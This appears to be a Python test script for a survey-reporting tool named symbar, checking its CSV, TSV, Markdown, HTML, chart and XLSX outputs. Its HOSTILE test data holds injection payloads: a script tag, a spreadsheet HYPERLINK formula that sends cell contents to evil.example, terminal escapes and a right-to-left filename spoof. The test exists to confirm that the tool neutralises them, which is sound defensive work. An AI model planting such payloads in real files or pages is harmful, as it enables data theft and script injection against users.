"""formats.py SOURCE BUILD: what formats.sh says."""

import csv
import io
import json
import os
import re
import resource
import subprocess
import sys
import tempfile
import xml.dom.minidom
import xml.etree.ElementTree as tree
import zipfile

source, build = sys.argv[1:3]
tool = os.path.join(build, "symbar")
failures = []

# (options, separator, decimal mark, begins with a byte order mark)
TABLES = [
    (["-f", "csv"], ",", ".", False),
    (["-f", "csv", "--csv-dialect", "excel"], ",", ".", True),
    (["-f", "csv", "--csv-dialect", "excel-fr"], ";", ",", True),
    (["-f", "tsv"], "\t", ".", False),
    (["-f", "tsv", "--csv-dialect", "excel-fr"], "\t", ",", True),
]
CHARTS = ["mirror", "symmetry", "shares", "units", "funnel"]
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def expect(truth, what):
    if not truth:
        failures.append(what)


def run(study, *options):
    done = subprocess.run([tool, "report", "--quiet", study, *options], stdout=subprocess.PIPE)
    expect(done.returncode == 0, f"{options}: exit status {done.returncode}")
    return done.stdout


def flat(row):
    """A row of the JSON by the names of the columns."""
    cells = {}
    for key, value in row.items():
        if not isinstance(value, dict):
            cells[key] = value
            continue
        for name, member in value.items():
            for last, figure in member.items() if isinstance(member, dict) else [(None, member)]:
                cells[".".join(filter(None, [key, name, last]))] = figure
    return cells


def compare(what, rows, header, table, to_value):
    expect(len(table) == len(rows), f"{what}: {len(table)} rows, and {len(rows)} in the JSON")
    seen = 0
    for row, cells in zip(rows, table):
        known = flat(row)
        for name, cell in zip(header, cells):
            wanted = known.pop(name, None)
            seen += isinstance(wanted, (int, float))
            expect(to_value(cell, wanted) == wanted, f"{what}: {name} is {cell!r}, not {wanted!r}")
        left = {name for name, value in known.items() if value is not None}
        expect(not left, f"{what} lacks {left}")
    return seen


def read_csv(bytes_, separator, mark):
    expect(bytes_.startswith(b"\xef\xbb\xbf") == mark, "the byte order mark")
    text = bytes_.decode("utf-8-sig")
    expect("\n" not in text.replace("\r\n", ""), "a line that does not end in CR LF")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True))
    return rows[0], rows[1:]


def read_xlsx(bytes_):
    """Every sheet as a list of {column: text or number}; formulas are refused."""
    archive = zipfile.ZipFile(io.BytesIO(bytes_))
    for info in archive.infolist():
        expect(info.date_time == (1980, 1, 1, 0, 0, 0), f"{info.filename} has a date")
    strings = [
        "".join(part.text or "" for part in item.iter(SHEET + "t"))
        for item in tree.fromstring(archive.read("xl/sharedStrings.xml"))
    ]
    sheets = []
    names = [n for n in archive.namelist() if re.match(r"xl/worksheets/sheet\d+[.]xml$", n)]
    for name in names:
        rows = []
        for row in tree.fromstring(archive.read(name)).iter(SHEET + "row"):
            cells = {}
            for cell in row:
                expect(cell.find(SHEET + "f") is None, f"{name} has a formula")
                value = cell.find(SHEET + "v")
                if value is not None:
                    is_text = cell.get("t") == "s"
                    column = re.match("[A-Z]+", cell.get("r")).group()
                    cells[column] = strings[int(value.text)] if is_text else float(value.text)
            rows.append(cells)
        sheets.append(rows)
    return archive, sheets


def has_xlsx():
    with open(os.path.join(build, "CMakeCache.txt"), encoding="utf-8") as cache:
        return "SYMBAR_XLSX:BOOL=ON" in cache.read().replace("=TRUE", "=ON").replace("=1", "=ON")


def check_figures(study):
    rows = json.loads(run(study, "-f", "json"))["results"]
    for options, separator, decimal, mark in TABLES:
        header, table = read_csv(run(study, *options), separator, mark)

        def to_value(cell, wanted):
            if isinstance(wanted, (int, float)) and cell:
                expect(decimal in cell or set(".,").isdisjoint(cell), f"{options}: {cell}")
                return float(cell.replace(decimal, "."))
            return cell or None

        seen = compare(" ".join(options), rows, header, table, to_value)
        expect(seen > 1000, f"{options}: only {seen} figures")
    if has_xlsx():
        first, again = (run(study, "-f", "xlsx", "--lang", "fr") for _ in range(2))
        expect(first == again, "two workbooks of one report differ")
        sheets = read_xlsx(first)[1]
        expect(len(sheets) == 4, f"{len(sheets)} sheets")
        header = list(sheets[-1][0].values())
        columns = list(sheets[-1][0])
        table = [[row.get(column) for column in columns] for row in sheets[-1][1:]]
        compare("xlsx", rows, header, table, lambda cell, wanted: cell)


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "escape": "red \x1b[31m and bell \x07",
    "override": "abc\u202etxt.exe",
    "noncharacter": "no XML \ufffe has \uffff",
    "long": "Anticonstitutionnellement " * 12,
}
MARKDOWN = "[click](http://evil.example) `x` | # *b* http://evil.example www.evil.example"


def write_study(folder):
    names = list(HOSTILE.values()) + [MARKDOWN, "@SUM(1)", "-1+1", "+1", "\uff1d1"]
    for side, file in (("employees", "staff.csv"), ("customers", "clients.csv")):
        with open(os.path.join(folder, file), "w", encoding="utf-8", newline="") as out:
            writer = csv.writer(out)
            writer.writerow(["unit"] + [f"q{i}" for i in range(len(HOSTILE))])
            for u, name in enumerate(names):
                for n in range(9):
                    shift = u + (3 if side == "employees" else 0)
                    writer.writerow([name] + [1 + (n + i + shift) % 5 for i in range(len(HOSTILE))])
    dimensions = [
        {"id": key, "label": label, "scale": "s", "employees": f"q{i}", "customers": f"q{i}"}
        for i, (key, label) in enumerate(HOSTILE.items())
    ]
    study = {
        "symbar": 1,
        "title": HOSTILE["script"] + HOSTILE["escape"] + HOSTILE["override"],
        "employees": {"files": ["staff.csv"], "unit": "unit"},
        "customers": {"files": ["clients.csv"], "unit": "unit"},
        "scales": {"s": {"kind": "likert", "min": 1, "max": 5, "top": [4, 5]}},
        "dimensions": dimensions,
        "privacy": {"min_n": 2},
    }
    path = os.path.join(folder, "symbar.json")
    with open(path, "w", encoding="utf-8") as out:
        json.dump(study, out)
    return path


def expect_no_controls(what, text):
    raw = re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
    expect(not raw, f"{what}: {raw and ascii(raw.group())} came through")


def check_hostile(study):
    formats = ["text", "markdown", "html"] + ["chart-" + name for name in CHARTS]
    for name in formats:
        text = run(study, "-f", name, "--units", "all").decode()
        expect_no_controls(name, text)
        if name != "text":
            expect("<script" not in text, f"{name}: a script came through")
        if name.startswith("chart"):
            xml.dom.minidom.parseString(text)
    markdown = run(study, "-f", "markdown", "--units", "all").decode()
    expect("](http" not in markdown.replace("\\]", ""), "markdown: a link came through")
    expect(not re.search(r"(?<!\\)://|www[.]", markdown), "markdown: an address came through")
    for line in markdown.splitlines():
        if line.startswith("|"):
            cells = len(re.findall(r"(?<!\\)[|]", line))
            expect(cells > 2, f"markdown: a torn row: {line[:60]}")
    for options, separator, _, mark in TABLES:
        bytes_ = run(study, *options)
        expect_no_controls(options, bytes_.decode("utf-8-sig"))
        header, table = read_csv(bytes_, separator, mark)
        for row in table:
            expect(len(row) == len(header), f"{options}: a torn row")
            for name, cell in zip(header, row):
                is_number = re.fullmatch(r"-?[0-9]+([.,][0-9]+)?(e-?[0-9]+)?", cell)
                expect(is_number or not re.match("[=+@\uff1d\t\r-]", cell), f"{options}: {cell}")
    if has_xlsx():
        archive, sheets = read_xlsx(run(study, "-f", "xlsx", "--units", "all"))
        texts = [cell for rows in sheets for row in rows for cell in row.values()]
        expect(HOSTILE["formula"] in texts, "xlsx: the formula is not a text")
        for name in archive.namelist():
            text = archive.read(name).decode()
            expect_no_controls("xlsx " + name, text)
            xml.dom.minidom.parseString(text)
            expect("<script" not in text, f"xlsx {name}: a script came through")
            expect("<hyperlink" not in text, f"xlsx {name}: a link came through")


def check_absent(study, folder):
    """What only a workbook takes is not looked for before one is written."""
    with open(os.path.join(build, "CMakeCache.txt"), encoding="utf-8") as cache:
        library = re.search("^XLSXWRITER_LIBRARY:FILEPATH=(.*[.]so)$", cache.read(), re.M)
    if not has_xlsx() or not library:
        return
    broken = os.path.join(folder, os.path.basename(os.path.realpath(library.group(1))))
    with open(broken, "w", encoding="utf-8") as out:
        out.write("no library\n")
    surroundings = {**os.environ, "LD_LIBRARY_PATH": folder}
    for name, status in [("text", 0), ("xlsx", 2)]:
        done = subprocess.run([tool, "report", "--quiet", study, "-f", name], env=surroundings,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        expect(done.returncode == status, f"no libxlsxwriter, {name}: {done.returncode}")
        expect("xlsx-not-installed" in done.stderr or not status, f"xlsx: {done.stderr}")


def check_full_disk(study, folder):
    """A workbook that there is no room for is none, and the old one stays. libxlsxwriter
    says nothing where a sheet does not fit into its temporary file, and the rest does."""
    if not has_xlsx():
        return
    path = os.path.join(folder, "report.xlsx")
    run(study, "-o", path)
    with zipfile.ZipFile(path) as archive:
        largest = max(info.file_size for info in archive.infolist())
    whole = os.path.getsize(path)
    expect(whole < largest - 2048, "no sheet that is larger than the workbook")
    for what, limit in (("a sheet", (whole + largest) // 2), ("nothing", 8192)):
        with open(path, "w", encoding="utf-8") as out:
            out.write("the old one")
        done = subprocess.run([tool, "report", "--quiet", study, "-o", path], text=True,
                              stderr=subprocess.PIPE, preexec_fn=lambda: resource.setrlimit(
                                  resource.RLIMIT_FSIZE, (limit, limit)))
        expect(done.returncode == 5, f"no room for {what}: exit status {done.returncode}")
        expect("[workbook-failed]" in done.stderr, f"no room for {what}: {done.stderr}")
        with open(path, encoding="utf-8", errors="replace") as left:
            expect(left.read() == "the old one", f"no room for {what}: the old one is gone")


with tempfile.TemporaryDirectory() as folder:
    check_full_disk(os.path.join(source, "data", "hotels", "symbar.json"), folder)
    check_figures(os.path.join(source, "data", "hotels", "symbar.json"))
    check_absent(os.path.join(source, "data", "hotels", "symbar.json"), folder)
    check_hostile(write_study(folder))
for failure in failures[:20]:
    print(ascii(failure))
print(f"{len(failures)} failures")
sys.exit(bool(failures))
